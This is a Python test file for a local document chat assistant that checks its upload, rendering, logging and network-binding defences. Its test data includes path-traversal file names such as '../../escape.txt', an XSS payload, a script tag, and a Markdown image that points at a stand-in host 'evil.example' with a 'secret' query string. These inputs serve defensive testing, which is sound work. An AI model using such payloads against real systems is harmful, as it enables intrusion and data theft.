"""Nothing of the user's leaks or escapes: upload names stay in the upload folder, document
text and file names reach the page escaped, API keys never reach a log, and the HTTP API
will not listen beyond loopback without a key."""

from __future__ import annotations

import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import httpx
import pytest
from fakes import EchoGenerator, HashEmbedder
from helpers import REPO, write_docs
from test_api import free_port, wait_ready

from assistant import Assistant, InputError, Settings
from assistant.cli import main
from assistant.web.app import ChatApp, Session
from assistant.web.chat import ChatService
from assistant.web.kb import HIDDEN_FILE, KnowledgeBase, safe_filename
from assistant.web.render import link_citations

NAME_MAX_BYTES = 255  # ext4, XFS, btrfs and NTFS: the longest single file name
EVIL = '<img src=x onerror="alert(1)">'
DOCS = {"fund.txt": "广西人工智能产业基金\n今年2月，广西设立规模100亿元的人工智能产业基金。"}


@pytest.fixture()
def kb(tmp_path: Path) -> KnowledgeBase:
    docs = write_docs(tmp_path / "docs", DOCS)
    settings = Settings(index_root=tmp_path / "index", upload_dir=tmp_path / "uploads", progress=False)
    return KnowledgeBase(Assistant(settings, embedder=HashEmbedder(), generator=EchoGenerator()), [docs])


def _incoming(tmp_path: Path) -> Path:
    src = tmp_path / "incoming.bin"
    src.write_text("水库总库容为3200万立方米。", encoding="utf-8")
    return src


def _outside(tmp_path: Path, kb: KnowledgeBase) -> set[Path]:
    """Every file under the test folder that is not in the upload folder."""
    return {p for p in tmp_path.rglob("*") if p.is_file() and kb.upload_dir not in p.parents}


# --------------------------------------------------------------------------- upload names


@pytest.mark.parametrize("name", [
    "../../escape.txt", "/etc/passwd.txt", "C:\\Windows\\system.ini.md", "..\\..\\x.txt",
    "sub/../../../x.txt", "a\x00b.txt", "a\nb\r\x1b[2J.txt", "....txt.md", "~/.bashrc.txt",
])
def test_upload_names_cannot_leave_the_upload_folder(kb: KnowledgeBase, tmp_path: Path, name: str) -> None:
    src = _incoming(tmp_path)
    before = _outside(tmp_path, kb)
    stored = kb.add_upload(src, name)
    assert stored.resolve().parent == kb.upload_dir.resolve() and stored.is_file()
    assert not stored.is_symlink() and not stored.name.startswith(".")
    assert _outside(tmp_path, kb) == before  # nothing written anywhere else


@pytest.mark.parametrize("name", ["CON.txt", "nul.txt", "Aux.md", "com1.pdf", "LPT9.docx",
                                  "con.tar.txt", "PRN .md", "NUL"])
def test_windows_reserved_device_names_are_renamed(name: str) -> None:
    """CON, NUL, COM1 ... name devices on Windows whatever the extension: a copy of the
    upload folder on a Windows disk or share must not turn a document into a device."""
    if "." not in name:
        with pytest.raises(InputError):
            safe_filename(name)
        return
    device = safe_filename(name).split(".")[0].strip().upper()
    assert device not in {"CON", "PRN", "AUX", "NUL", "COM1", "LPT9"}, safe_filename(name)


@pytest.mark.parametrize("name", ["a\u202eb.txt", "evil\u202etxt.md", "a\u200bb.txt", "a\u2028b.txt",
                                  "a\x85b.txt", "a\ufeffb.txt", "a\u2066b\u2069.txt"])
def test_invisible_and_control_characters_are_replaced(name: str) -> None:
    """A right-to-left override makes ``evil\\u202etxt.md`` display as ``evildm.txt``."""
    clean = safe_filename(name)
    assert not [c for c in clean if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")], ascii(clean)
    assert clean.endswith((".txt", ".md"))


@pytest.mark.parametrize("stem", ["长" * 300, "😀" * 300, "a" * 1000, "é" * 200])
def test_very_long_names_are_shortened_and_stored(kb: KnowledgeBase, tmp_path: Path, stem: str) -> None:
    src = _incoming(tmp_path)
    first = kb.add_upload(src, stem + ".txt")
    second = kb.add_upload(src, stem + ".txt")  # the same name again gets a "-1"
    assert first != second and first.is_file() and second.is_file()
    for stored in (first, second):
        assert stored.suffix == ".txt" and len(stored.name.encode()) < NAME_MAX_BYTES


def test_symlinks_in_the_upload_folder_are_not_written_through(kb: KnowledgeBase, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    kb.upload_dir.mkdir()
    (kb.upload_dir / "a.txt").symlink_to(victim)
    (kb.upload_dir / "b.txt").symlink_to(tmp_path / "created-outside.txt")  # dangling
    for name in ("a.txt", "b.txt"):
        stored = kb.add_upload(_incoming(tmp_path), name)
        assert stored.parent == kb.upload_dir and not stored.is_symlink()
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert not (tmp_path / "created-outside.txt").exists()


def test_delete_cannot_reach_outside_the_knowledge_base(kb: KnowledgeBase, tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("not in the knowledge base", encoding="utf-8")
    kb.add_upload(_incoming(tmp_path), "in.txt")
    for target in (kb.upload_dir / ".." / "outside.txt", outside, Path("/etc/hostname"),
                   kb.upload_dir / HIDDEN_FILE, "../outside.txt"):
        with pytest.raises(InputError, match="not in the knowledge base"):
            kb.delete(target)
    assert outside.exists()


# --------------------------------------------------------------------------- escaping


def test_document_text_and_file_names_reach_the_page_escaped(tmp_path: Path) -> None:
    docs = write_docs(tmp_path / "docs", {
        f"{EVIL}.txt": "基金报告\n今年2月<script>alert(1)</script>广西设立规模100亿元的人工智能产业基金。",
    })
    settings = Settings(index_root=tmp_path / "index", upload_dir=tmp_path / "uploads", progress=False)
    bot = Assistant(settings, embedder=HashEmbedder(), generator=EchoGenerator())
    kb = KnowledgeBase(bot, [docs], name="escape")
    kb.rebuild()
    app = ChatApp(ChatService(bot, kb, poll_seconds=0.05))
    final = list(app.submit(f"{EVIL}基金规模是多少？", Session()))[-1]
    messages, sources = final[0], final[1]
    page = "".join(m["content"] for m in messages) + sources
    assert "<script" not in page and "<img" not in page  # every tag of theirs is text
    # The bubbles render Markdown: a question's image syntax is shown, not fetched.
    for snapshot in app.submit("![x](http://evil.example/x.png)基金规模？", Session()):
        assert all("](" not in m["content"] for m in snapshot[0]), snapshot[0]
    assert "evil.example" in snapshot[0][0]["content"]
    assert "100亿元" in messages[-1]["content"]  # answered from that document
    assert "&lt;img src=x" in sources and "&lt;script&gt;" in sources  # its name and text
    rows = app.kb_view(Session())[0]
    assert rows[0][0] == f"{EVIL}.txt"  # a table cell: shown as text by the Dataframe


def test_answer_markdown_cannot_load_remote_content() -> None:
    """The chat bubble renders Markdown: an answer copying ``![x](http://…)`` from a
    document must not make the browser fetch that address (or show a disguised link)."""
    text = "见图![x](http://evil.example/p.png?q=secret)与[官网](http://evil.example)[1]"
    out = link_citations(text, turn=0)
    assert "![" not in out and "](" not in out
    assert 'href="#src-0-1"' in out  # the citation link itself is kept


# --------------------------------------------------------------------------- API keys


def _serve_logging_everything(args: list[str]) -> list[str]:
    """``assistant serve`` with root logging at DEBUG and uvicorn's access log on."""
    boot = ("import logging, sys, uvicorn\n"
            "logging.basicConfig(level=logging.DEBUG)\n"
            "run = uvicorn.run\n"
            "uvicorn.run = lambda app, **kw: run(app, **{**kw, 'log_level': 'debug', 'access_log': True})\n"
            "from assistant.cli import main\n"
            "sys.exit(main(sys.argv[1:]))\n")
    return [sys.executable, "-c", boot, "-v", "serve", *args]


@pytest.mark.models
def test_api_keys_never_reach_the_logs(tmp_path: Path) -> None:
    settings = Settings()
    from assistant.models import get_spec, is_installed

    for model_id in (settings.fast_generator, settings.embedder):
        if not is_installed(get_spec(model_id, settings), settings):
            pytest.skip(f"{model_id} is not installed: run `make setup`")
    # Real `assistant serve`, the 0.5B model as the default profile (this is about the logs,
    # not the answers, and it loads in half the time); one good, one denied, one broken request.
    secret, wrong = "s3cret-KEY-7f2a9", "wr0ng-KEY-c41d"
    docs = write_docs(tmp_path / "docs", DOCS)
    port = free_port()
    log = tmp_path / "serve.log"
    with log.open("w") as sink:
        proc = subprocess.Popen(
            _serve_logging_everything(["--docs", str(docs), "--port", str(port), "--api-key", secret,
                                       "--index-root", str(tmp_path / "index"), "--no-progress",
                                       "--set", f"generator={settings.fast_generator}"]),
            stdout=sink, stderr=subprocess.STDOUT, text=True, cwd=REPO)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_ready(url, proc, seconds=300, key=secret)
        body = {"model": "default", "messages": [{"role": "user", "content": "基金规模是多少？"}]}
        ok = httpx.post(f"{url}/v1/chat/completions", json=body, timeout=300,
                        headers={"Authorization": f"Bearer {secret}"})
        denied = httpx.post(f"{url}/v1/chat/completions", json=body, timeout=30,
                            headers={"Authorization": f"Bearer {wrong}"})
        broken = httpx.post(f"{url}/v1/chat/completions", content=b"{broken", timeout=30,
                            headers={"Authorization": f"Bearer {secret}"})
        assert (ok.status_code, denied.status_code, broken.status_code) == (200, 401, 400)
    finally:
        proc.terminate()
        proc.wait(timeout=60)
    text = log.read_text(errors="replace")
    assert '"POST /v1/chat/completions HTTP/1.1" 401' in text  # the access log was on
    assert "DEBUG" in text  # and so was debug logging
    assert secret not in text and wrong not in text
    assert "authorization" not in text.lower()


# --------------------------------------------------------------------------- binding


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.168.1.20", "example.com", "127.0.0.1.nip.io"])
def test_serve_beyond_loopback_needs_a_key(host: str, monkeypatch: pytest.MonkeyPatch,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("ASSISTANT_API_KEY", "")
    assert main(["serve", "--host", host, "--api-key", ""]) == 1
    assert "without an API key" in capsys.readouterr().err
    # With a key (argument or environment) the binding is accepted: the next complaint
    # is about the missing documents, before any model loads.
    assert main(["serve", "--host", host, "--api-key", "k"]) == 1
    monkeypatch.setenv("ASSISTANT_API_KEY", "k")
    assert main(["serve", "--host", host]) == 1
    err = capsys.readouterr().err
    assert "without an API key" not in err and err.count("serve needs documents") == 2


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "::1"])
def test_serve_on_loopback_needs_no_key(host: str, monkeypatch: pytest.MonkeyPatch,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("ASSISTANT_API_KEY", "")
    assert main(["serve", "--host", host]) == 1
    assert "serve needs documents" in capsys.readouterr().err



@pytest.mark.parametrize("host", ["0.0.0.0", "192.168.1.20"])
def test_chat_beyond_loopback_needs_a_login(host: str, monkeypatch: pytest.MonkeyPatch,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    """Refused before any model loads: the chat UI shows and deletes the user's documents."""
    monkeypatch.delenv("ASSISTANT_CHAT_AUTH", raising=False)
    assert main(["chat", "--host", host]) == 1
    assert "without a login" in capsys.readouterr().err
    for bad in ("anna", "anna:", ":secret"):
        assert main(["chat", "--host", host, "--auth", bad]) == 1
        assert "USER:PASSWORD" in capsys.readouterr().err


def test_chat_login_guards_every_page_and_call(tmp_path: Path) -> None:
    """A real chat server (fake models) on 0.0.0.0 with a login: nothing without it."""
    docs = write_docs(tmp_path / "docs", DOCS)
    port = free_port()
    proc = subprocess.Popen([sys.executable, str(REPO / "tests" / "serve_fake.py"), str(docs), str(port),
                             "--chat", "--host", "0.0.0.0", "--auth", "anna:long-secret"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 90
        while True:
            assert proc.poll() is None, proc.stderr.read() if proc.stderr else ""
            try:
                status = httpx.get(f"{url}/config", timeout=2).status_code
                break
            except httpx.HTTPError:
                assert time.monotonic() < deadline, "chat server not up in time"
                time.sleep(0.3)
        assert status == 401
        assert httpx.post(f"{url}/gradio_api/queue/join", json={}, timeout=5).status_code == 401
        with httpx.Client(base_url=url, timeout=5) as client:
            assert client.post("/login", data={"username": "anna", "password": "wrong"}).status_code == 400
            assert client.get("/config").status_code == 401
            assert client.post("/login", data={"username": "anna", "password": "long-secret"}).status_code == 200
            assert client.get("/config").status_code == 200
    finally:
        proc.kill()
        proc.wait()


def test_servers_cap_malloc_arenas_before_any_thread(monkeypatch: pytest.MonkeyPatch,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    """`serve` and `chat` cap glibc's malloc arenas first (the soak's memory creep)."""
    import assistant.web.memory as memory

    calls: list[int] = []

    def record(arenas: int = memory.MALLOC_ARENAS) -> bool:
        calls.append(arenas)
        return True

    monkeypatch.setattr(memory, "limit_malloc_arenas", record)
    monkeypatch.setenv("ASSISTANT_API_KEY", "")
    monkeypatch.delenv("ASSISTANT_CHAT_AUTH", raising=False)
    assert main(["serve", "--host", "127.0.0.1"]) == 1  # no documents: stops before any model
    assert main(["chat", "--host", "0.0.0.0"]) == 1  # no login: stops before any model
    capsys.readouterr()
    assert calls == [memory.MALLOC_ARENAS, memory.MALLOC_ARENAS]


def test_malloc_arena_cap_takes_effect_on_glibc(monkeypatch: pytest.MonkeyPatch) -> None:
    from assistant.web.memory import limit_malloc_arenas

    monkeypatch.delenv("MALLOC_ARENA_MAX", raising=False)
    assert limit_malloc_arenas() is True  # this machine runs glibc
    monkeypatch.setenv("MALLOC_ARENA_MAX", "4")
    assert limit_malloc_arenas() is True  # the user's own setting is left as it is


def test_server_commands_restart_once_with_the_arena_cap(tmp_path: Path) -> None:
    """`assistant serve` run as a command restarts itself with MALLOC_ARENA_MAX=2 (the
    setting the soak measured flat); an explicit value is kept."""
    import os

    script = ("import os, sys; from assistant.cli import main; "
              "print('ARENAS', os.environ.get('MALLOC_ARENA_MAX'), flush=True); "
              "sys.argv = ['assistant', 'serve', '--host', '127.0.0.1']; raise SystemExit(main())")
    env = {k: v for k, v in os.environ.items() if k != "MALLOC_ARENA_MAX"}
    out = subprocess.run([sys.executable, "-c", script], env=env, capture_output=True, text=True,
                         timeout=120, cwd=REPO)
    assert out.returncode == 1 and "serve needs documents" in out.stderr  # the restarted run went on
    assert out.stdout.count("ARENAS") == 1 and "ARENAS None" in out.stdout  # the -c run, then the re-exec
    env["MALLOC_ARENA_MAX"] = "4"
    kept = subprocess.run([sys.executable, "-m", "assistant.cli", "serve", "--host", "127.0.0.1"], env=env,
                          capture_output=True, text=True, timeout=120, cwd=REPO)
    assert kept.returncode == 1 and "serve needs documents" in kept.stderr


def test_the_restart_sets_the_cap_and_keeps_the_arguments(monkeypatch: pytest.MonkeyPatch) -> None:
    import os

    seen: list[tuple[str, list[str], dict[str, str]]] = []

    def fake_execve(path: str, args: list[str], env: dict[str, str]) -> None:
        seen.append((path, args, env))
        raise SystemExit(0)

    monkeypatch.delenv("MALLOC_ARENA_MAX", raising=False)
    monkeypatch.setattr(os, "execve", fake_execve)
    monkeypatch.setattr(sys, "argv", ["assistant", "chat", "--port", "7999"])
    with pytest.raises(SystemExit):
        main()
    assert seen == [(sys.executable, [sys.executable, "-m", "assistant.cli", "chat", "--port", "7999"],
                     {**os.environ, "MALLOC_ARENA_MAX": "2"})]
    seen.clear()
    monkeypatch.setattr(sys, "argv", ["assistant", "search", "x"])
    with pytest.raises(SystemExit):  # no index: an error, but no restart for a one-shot command
        raise SystemExit(main())
    assert seen == []
